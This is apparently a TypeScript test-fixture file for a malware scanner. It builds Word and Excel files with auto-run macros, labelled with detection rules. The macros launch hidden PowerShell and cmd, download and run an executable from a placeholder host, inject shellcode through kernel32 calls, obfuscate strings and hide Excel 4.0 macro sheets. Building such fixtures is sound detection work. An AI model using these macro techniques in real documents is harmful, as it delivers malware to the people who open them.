// Documents whose macros show the traits of attacks.
import { callTokens, excelBinary, excelWorkbook, paragraph, wordBinary, wordDocument } from '../../write-office.ts'
import type { Suspect } from '../suspect.ts'
import { bad, file, macro, wide } from './document.ts'

export const macros: readonly Suspect[] = [
  file(
    'shell.docm',
    'malicious',
    ['office_macro_starts_interpreter'],
    wordDocument(
      paragraph('Please click Enable Content to view'),
      {},
      macro('Sub AutoOpen()\n Shell "powershell -w hidden -c calc", vbHide\nEnd Sub'),
    ),
  ),
  file(
    'shell.doc',
    'malicious',
    ['office_macro_starts_interpreter'],
    wordBinary(
      'Click Enable Editing',
      macro('Sub Document_Open()\n CreateObject("WScript.Shell").Run "cmd /c calc", 0\nEnd Sub'),
    ),
  ),
  file(
    'download.xlsm',
    'malicious',
    ['script_downloads_and_runs', 'office_macro_runs_on_open'],
    excelWorkbook(
      {},
      {
        macros: macro(
          `Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As Long) As Long\nSub Workbook_Open()\n URLDownloadToFile 0, "${bad}/a.exe", Environ("TEMP") & "\\a.exe", 0, 0\n Shell Environ("TEMP") & "\\a.exe", vbHide\nEnd Sub`,
          'ThisWorkbook',
        ),
      },
    ),
  ),
  file(
    'obfuscated.docm',
    'malicious',
    ['office_macro_starts_interpreter', 'script_conceals_itself'],
    wordDocument(
      '',
      {},
      macro(
        `Sub AutoOpen()\n Dim a\n a = ${[...'powershell -w hidden -enc '].map((char) => `Chr(${char.charCodeAt(0)})`).join(' & ')} & "${wide('calc')}"\n CreateObject(StrReverse("llehS.tpircSW")).Run a, 0\nEnd Sub`,
      ),
    ),
  ),
  file(
    'inject.xls',
    'malicious',
    ['script_injects_code'],
    excelBinary({
      macros: macro(
        'Private Declare Function VirtualAlloc Lib "kernel32" (ByVal a As Long, ByVal b As Long, ByVal c As Long, ByVal d As Long) As Long\nPrivate Declare Sub RtlMoveMemory Lib "kernel32" (ByVal a As Long, ByRef b As Any, ByVal c As Long)\nPrivate Declare Function CreateThread Lib "kernel32" (ByVal a As Long, ByVal b As Long, ByVal c As Long, ByVal d As Long, ByVal e As Long, ByRef f As Long) As Long\nSub Auto_Open()\n p = VirtualAlloc(0, 10, &H3000, &H40)\n RtlMoveMemory p, b, 10\n CreateThread 0, 0, p, 0, 0, 0\nEnd Sub',
        'Module1',
      ),
    }),
  ),
  file(
    'wmi.docm',
    'suspicious',
    ['office_macro_runs_on_open', 'script_starts_process_indirectly'],
    wordDocument(
      '',
      {},
      macro('Sub AutoOpen()\n GetObject("winmgmts:").Get("Win32_Process").Create "calc", Null, Null, p\nEnd Sub'),
    ),
  ),
  file(
    'stomped.docm',
    'suspicious',
    ['office_macro_is_stomped'],
    wordDocument('', {}, [
      {
        name: 'ThisDocument',
        source: 'Sub Hello()\nEnd Sub',
        compiledLiterals: ['powershell -w hidden -c calc', 'WScript.Shell', `${bad}/a.exe`],
      },
    ]),
  ),
  file(
    'event.xlsm',
    'suspicious',
    ['office_macro_runs_on_open'],
    excelWorkbook({}, { macros: macro('Private Sub Image1_MouseMove(ByVal a)\n Shell "calc"\nEnd Sub', 'Sheet1') }),
  ),
  file(
    'writes.docm',
    'suspicious',
    ['script_drops_decoded_file'],
    wordDocument(
      '',
      {},
      macro(
        'Sub AutoOpen()\n Set d = CreateObject("MSXML2.DOMDocument").createElement("b")\n d.DataType = "bin.base64"\n d.Text = "aGVsbG8="\n Open Environ("TEMP") & "\\a.exe" For Binary As #1\n Put #1, , d.nodeTypedValue\n Close #1\n Shell Environ("TEMP") & "\\a.exe"\nEnd Sub',
      ),
    ),
  ),
  file(
    'exec.xls',
    'malicious',
    ['office_macro_sheet_calls_out', 'office_macro_sheet_is_hidden'],
    excelBinary({ hidden: 2, autoOpen: true, formulas: [callTokens(110, 'cmd /c calc')] }),
  ),
  file(
    'call.xls',
    'malicious',
    ['office_macro_sheet_calls_out'],
    excelBinary({
      hidden: 1,
      autoOpen: true,
      formulas: [
        callTokens(149, 'urlmon', 'URLDownloadToFileA', 'JJCCJJ', 'x'),
        callTokens(150, 'urlmon', 'URLDownloadToFileA', 'JJCCJJ', `${bad}/a.dll`),
        callTokens(110, 'rundll32 C:\\Users\\Public\\a.dll,x'),
      ],
    }),
  ),
  file(
    'macrosheet.xlsm',
    'malicious',
    ['office_macro_sheet_calls_out'],
    excelWorkbook(
      {
        'xl/macrosheets/sheet1.xml':
          '<xm:macrosheet xmlns:xm="m"><sheetData><row r="1"><c r="A1"><f>EXEC("cmd /c calc")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>',
      },
      {
        workbook:
          '<workbook xmlns:r="r"><sheets><sheet name="M" sheetId="1" state="veryHidden" r:id="rId1"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">M!$A$1</definedName></definedNames></workbook>',
        relations:
          '<Relationships><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/></Relationships>',
      },
    ),
  ),
]
